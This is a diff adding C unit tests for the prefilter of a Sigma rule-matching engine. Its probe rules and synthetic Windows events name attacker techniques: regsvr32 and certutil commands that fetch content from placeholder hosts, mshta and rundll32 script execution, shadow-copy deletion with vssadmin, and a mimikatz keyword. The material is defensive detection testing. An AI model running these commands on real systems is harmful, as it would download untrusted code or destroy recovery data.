@@ -274,3 +274,198 @@ KZ_TEST(sigma_match_engine_filters_skips_order) {
     kz_sigma_engine_free(e);
     kz_sigma_ruleset_free(&rs);
 }
+
+/* ---- the prefilter: field-scoped literals, ANDed clauses, regex literals ----
+ *
+ * The prefilter may only let through more than exact evaluation accepts, never less; here it is
+ * also checked that it lets through less than "a literal anywhere in the event": a rule is a
+ * candidate (evaluated exactly) only when its literals occur in the fields its items name, and in
+ * every part of an AND. Verdicts are worked out by hand from each rule's text; each event is also
+ * run without the prefilter, which must give the same verdict. */
+
+struct probe {
+    int hits, hits_np;   /* with and without the prefilter */
+    uint64_t candidates; /* rule variants evaluated, with the prefilter */
+};
+
+/* Runs event t through one rule (rule_yaml: a whole document) with and without the prefilter. */
+static struct probe prefilter_probe(const char *rule_yaml, const struct test_event *t) {
+    struct probe p = {-1, -1, 0};
+    struct kz_sigma_ruleset rs;
+    kz_sigma_ruleset_init(&rs);
+    struct kz_err err = {0};
+    if (kz_sigma_load_buffer(&rs, "probe.yml", rule_yaml, strlen(rule_yaml), &err) ||
+        kz_sigma_ruleset_link(&rs) || rs.nfailures || rs.nrules != 1) {
+        CHECK_MSG(0, "probe rule does not load: %s", rs.nfailures ? rs.failures[0].reason : err.msg);
+        kz_sigma_ruleset_free(&rs);
+        return p;
+    }
+    for (int pf = 0; pf < 2; pf++) {
+        struct kz_sigma_engine_opts opts = {.no_prefilter = pf};
+        struct kz_sigma_engine *e = NULL;
+        struct kz_sigma_scratch *s = NULL;
+        if (kz_sigma_engine_new(&e, &rs, &opts, &err) || kz_sigma_scratch_new(e, &s)) {
+            CHECK_MSG(0, "probe engine: %s", err.msg);
+            kz_sigma_engine_free(e);
+            break;
+        }
+        int hits = 0;
+        kz_sigma_match(e, s, &t->ev, count_hit, &hits);
+        if (pf) {
+            p.hits_np = hits;
+        } else {
+            p.hits = hits;
+            p.candidates = kz_sigma_scratch_stats(s)->candidates;
+        }
+        kz_sigma_scratch_free(s);
+        kz_sigma_engine_free(e);
+    }
+    kz_sigma_ruleset_free(&rs);
+    return p;
+}
+
+#define PROBE_RULE(detection)                                                                      \
+    "title: probe\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n"    \
+    detection
+
+/* want: the verdict; want_cand: 1 when the prefilter must pass the rule, 0 when it must not. */
+#define CHECK_PROBE(rule, t, want, want_cand)                                                      \
+    do {                                                                                           \
+        struct probe p_ = prefilter_probe(rule, t);                                                \
+        CHECK_INT(p_.hits, want);                                                                  \
+        CHECK_INT(p_.hits_np, want);                                                               \
+        CHECK_INT(p_.candidates, want_cand);                                                       \
+    } while (0)
+
+KZ_TEST(sigma_match_prefilter_field_scoped) {
+    struct test_event *t = kz_calloc(1, sizeof *t);
+    REQUIRE(t);
+    /* `\mshta.exe` must be in Image; `vbscript:execute` in CommandLine (both long enough to
+     * be kept as clauses of the AND: see docs/rules.md). */
+    static const char contains_rule[] = PROBE_RULE("  sel:\n    Image|contains: '\\mshta.exe'\n"
+                                                   "    CommandLine|contains: 'vbscript:execute'\n"
+                                                   "  condition: sel\n");
+    /* Both texts are in the event, but `\mshta.exe` only in the command line: Image does not
+     * contain it, so no match, and the prefilter does not even pass the rule. */
+    event_reset(t);
+    event_line(t, "Image: C:\\Windows\\System32\\cmd.exe");
+    event_line(t, "CommandLine: cmd /c C:\\Windows\\System32\\mshta.exe vbscript:Execute(\"x\")");
+    CHECK_PROBE(contains_rule, t, 0, 0);
+    /* In its field (any case): a candidate, and a match. */
+    event_reset(t);
+    event_line(t, "Image: C:\\Windows\\System32\\MSHTA.exe");
+    event_line(t, "CommandLine: mshta vbscript:Execute(\"x\")");
+    CHECK_PROBE(contains_rule, t, 1, 1);
+    /* In its field, but the other part of the AND is missing everywhere: not a candidate. */
+    event_reset(t);
+    event_line(t, "Image: C:\\Windows\\System32\\mshta.exe");
+    event_line(t, "CommandLine: mshta http://example.test/a.hta");
+    CHECK_PROBE(contains_rule, t, 0, 0);
+
+    /* An exact value is found only as the whole value of its own field. */
+    static const char exact_rule[] = PROBE_RULE("  sel:\n    OriginalFileName: 'HH.exe'\n"
+                                                "  condition: sel\n");
+    event_reset(t);
+    event_line(t, "Description: HH.exe");
+    event_line(t, "OriginalFileName: notepad.exe");
+    CHECK_PROBE(exact_rule, t, 0, 0);
+    event_reset(t);
+    event_line(t, "Description: HH.exe");
+    event_line(t, "OriginalFileName: hh.EXE");
+    CHECK_PROBE(exact_rule, t, 1, 1);
+
+    /* A field repeated in the event (unnamed <Data> items): any instance will do. */
+    event_reset(t);
+    event_line(t, "OriginalFileName: notepad.exe");
+    event_line(t, "OriginalFileName: HH.exe");
+    CHECK_PROBE(exact_rule, t, 1, 1);
+
+    /* On Security 4688 the rule's Image is read from NewProcessName: the literal counts there,
+     * and not in the command line. */
+    static const char image_rule[] = PROBE_RULE("  sel:\n    Image|endswith: '\\mshta.exe'\n"
+                                                "  condition: sel\n");
+    event_reset(t);
+    t->ev.channel = "Security";
+    t->ev.provider = "Microsoft-Windows-Security-Auditing";
+    t->ev.event_id = 4688;
+    event_line(t, "NewProcessName: C:\\Windows\\System32\\mshta.exe");
+    event_line(t, "CommandLine: mshta.exe a.hta");
+    CHECK_PROBE(image_rule, t, 1, 1);
+    event_reset(t);
+    t->ev.channel = "Security";
+    t->ev.provider = "Microsoft-Windows-Security-Auditing";
+    t->ev.event_id = 4688;
+    event_line(t, "NewProcessName: C:\\Windows\\System32\\cmd.exe");
+    event_line(t, "CommandLine: cmd /c C:\\Windows\\System32\\mshta.exe");
+    CHECK_PROBE(image_rule, t, 0, 0);
+
+    /* Keywords have no field: a keyword anywhere passes. */
+    static const char keyword_rule[] = PROBE_RULE("  keywords:\n    - 'mimikatz'\n"
+                                                  "  condition: keywords\n");
+    event_reset(t);
+    event_line(t, "Image: C:\\Windows\\System32\\cmd.exe");
+    event_line(t, "ParentCommandLine: run Mimikatz.exe");
+    CHECK_PROBE(keyword_rule, t, 1, 1);
+    kz_free(t);
+}
+
+KZ_TEST(sigma_match_prefilter_terms) {
+    struct test_event *t = kz_calloc(1, sizeof *t);
+    REQUIRE(t);
+    /* `1 of selection_*`: either selection's own AND must be complete. */
+    static const char or_rule[] =
+        PROBE_RULE("  selection_a:\n    Image|endswith: '\\rundll32.exe'\n"
+                   "    CommandLine|contains: 'javascript:'\n"
+                   "  selection_b:\n    Image|endswith: '\\regsvr32.exe'\n"
+                   "    CommandLine|contains: 'scrobj.dll'\n"
+                   "  condition: 1 of selection_*\n");
+    /* rundll32 with regsvr32's argument: half of each selection, neither whole. */
+    event_reset(t);
+    event_line(t, "Image: C:\\Windows\\System32\\rundll32.exe");
+    event_line(t, "CommandLine: rundll32 /i:http://x scrobj.dll");
+    CHECK_PROBE(or_rule, t, 0, 0);
+    event_reset(t);
+    event_line(t, "Image: C:\\Windows\\System32\\regsvr32.exe");
+    event_line(t, "CommandLine: regsvr32 /s /i:http://x scrobj.dll");
+    CHECK_PROBE(or_rule, t, 1, 1);
+
+    /* |all: every value is required, in its field. */
+    static const char all_rule[] = PROBE_RULE("  sel:\n    CommandLine|contains|all:\n"
+                                              "      - 'vssadmin'\n      - 'delete shadows'\n"
+                                              "  condition: sel\n");
+    event_reset(t);
+    event_line(t, "CommandLine: vssadmin list shadows");
+    event_line(t, "ParentCommandLine: delete shadows");
+    CHECK_PROBE(all_rule, t, 0, 0);
+    event_reset(t);
+    event_line(t, "CommandLine: vssadmin.exe Delete Shadows /all /quiet");
+    CHECK_PROBE(all_rule, t, 1, 1);
+
+    /* A regex's required text: `"{` (the group must match once); without it, no candidate. */
+    static const char re_rule[] = PROBE_RULE("  sel:\n    CommandLine|re: '\"(?:\\{\\d\\})+\"\\s*-f'\n"
+                                             "  condition: sel\n");
+    event_reset(t);
+    event_line(t, "CommandLine: powershell \"{1}{0}\" -f 'ke','invo'");
+    CHECK_PROBE(re_rule, t, 1, 1);
+    event_reset(t);
+    event_line(t, "CommandLine: powershell -f {1}{0}");
+    CHECK_PROBE(re_rule, t, 0, 0);
+    /* The literal in the field but the expression not matching: a candidate, no match. */
+    event_reset(t);
+    event_line(t, "CommandLine: echo \"{x}\" -f");
+    CHECK_PROBE(re_rule, t, 0, 1);
+
+    /* `and not`: the exclusion requires nothing; the positive part still gates. */
+    static const char not_rule[] = PROBE_RULE("  sel:\n    Image|endswith: '\\certutil.exe'\n"
+                                              "  filter:\n    CommandLine|contains: '-verify'\n"
+                                              "  condition: sel and not filter\n");
+    event_reset(t);
+    event_line(t, "Image: C:\\Windows\\System32\\certutil.exe");
+    event_line(t, "CommandLine: certutil -urlcache -f http://x/a a");
+    CHECK_PROBE(not_rule, t, 1, 1);
+    event_reset(t);
+    event_line(t, "Image: C:\\Windows\\System32\\cmd.exe");
+    event_line(t, "CommandLine: cmd /c certutil.exe");
+    CHECK_PROBE(not_rule, t, 0, 0);
+    kz_free(t);
+}
